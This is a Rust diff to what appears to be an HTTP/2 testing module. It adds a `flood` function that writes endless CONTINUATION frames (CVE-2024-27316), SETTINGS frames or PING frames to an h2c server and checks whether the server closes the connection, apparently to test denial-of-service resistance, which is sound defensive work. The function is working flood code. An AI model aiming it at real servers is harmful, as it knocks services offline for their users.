@@ -88,6 +88,11 @@ impl H2Conn {
         send(self.sender.clone(), request).await
     }
 
+    /// Whether the connection is gone (the server sent GOAWAY and closed it).
+    pub fn is_closed(&self) -> bool {
+        self.sender.is_closed()
+    }
+
     /// A handle to send on this connection from elsewhere.
     pub fn sender(&self) -> SendRequest<Full<Bytes>> {
         self.sender.clone()
@@ -169,4 +174,79 @@ pub async fn rapid_reset(addr: SocketAddr, streams: usize) -> bool {
         .is_ok();
     driver.abort();
     ended
+}
+
+/// What a [`flood`] sends, frame after frame, without reading anything back.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Flood {
+    /// A HEADERS frame without END_HEADERS, then CONTINUATION frames of
+    /// 16 KiB forever (CVE-2024-27316 and kin).
+    Continuation,
+    /// SETTINGS frames, each of which asks for an acknowledgement.
+    Settings,
+    /// PING frames, each of which asks for an answer.
+    Ping,
+}
+
+/// How a [`flood`] ended.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Flooded {
+    /// Frames written before the flood stopped.
+    pub frames: usize,
+    /// Whether the server closed the connection (a write or read failed, or
+    /// it ended) rather than the flood running for its whole time.
+    pub closed: bool,
+}
+
+/// Flood the h2c server at `addr` with `kind` frames for at most `secs`
+/// seconds, reading nothing but the end of the connection.
+pub async fn flood(addr: SocketAddr, kind: Flood, secs: u64) -> Flooded {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let Ok(stream) = TcpStream::connect(addr).await else {
+        return Flooded {
+            frames: 0,
+            closed: true,
+        };
+    };
+    let (mut read, mut write) = stream.into_split();
+    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
+        let length = (payload.len() as u32).to_be_bytes();
+        let mut frame = vec![length[1], length[2], length[3], kind, flags];
+        frame.extend_from_slice(&stream.to_be_bytes());
+        frame.extend_from_slice(payload);
+        frame
+    };
+    let mut start = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    start.extend(frame(0x4, 0, 0, &[]));
+    let repeated = match kind {
+        Flood::Continuation => {
+            // :method GET, then a header block that never ends.
+            start.extend(frame(0x1, 0, 1, &[0x82]));
+            frame(0x9, 0, 1, &vec![0x40; 16 * 1024])
+        }
+        // SETTINGS_ENABLE_PUSH = 0, again and again.
+        Flood::Settings => frame(0x4, 0, 0, &[0, 2, 0, 0, 0, 0]),
+        Flood::Ping => frame(0x6, 0, 0, &[7; 8]),
+    };
+    // The end of the connection, noticed while writing.
+    let ended = tokio::spawn(async move {
+        let mut sink = vec![0u8; 64 * 1024];
+        while matches!(read.read(&mut sink).await, Ok(n) if n > 0) {}
+    });
+    let mut frames = 0;
+    let writing = async {
+        if write.write_all(&start).await.is_err() {
+            return true;
+        }
+        loop {
+            if ended.is_finished() || write.write_all(&repeated).await.is_err() {
+                return true;
+            }
+            frames += 1;
+        }
+    };
+    let closed = tokio::time::timeout(std::time::Duration::from_secs(secs), writing)
+        .await
+        .unwrap_or(false);
+    Flooded { frames, closed }
 }
